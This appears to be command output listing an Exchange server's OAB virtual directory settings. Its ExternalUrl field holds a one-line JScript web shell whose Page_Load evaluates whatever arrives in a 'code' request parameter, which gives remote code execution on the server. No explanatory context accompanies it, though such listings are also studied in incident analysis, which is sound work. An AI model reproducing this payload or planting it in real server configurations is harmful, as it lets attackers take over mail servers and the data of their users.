Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : 
RequireSSL                      : False
MetabasePath                    : IIS://EXCH01.contoso.local/W3SVC/1/ROOT/OAB
InternalUrl                     : https://exch01.contoso.local/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>
Server                          : EXCH01
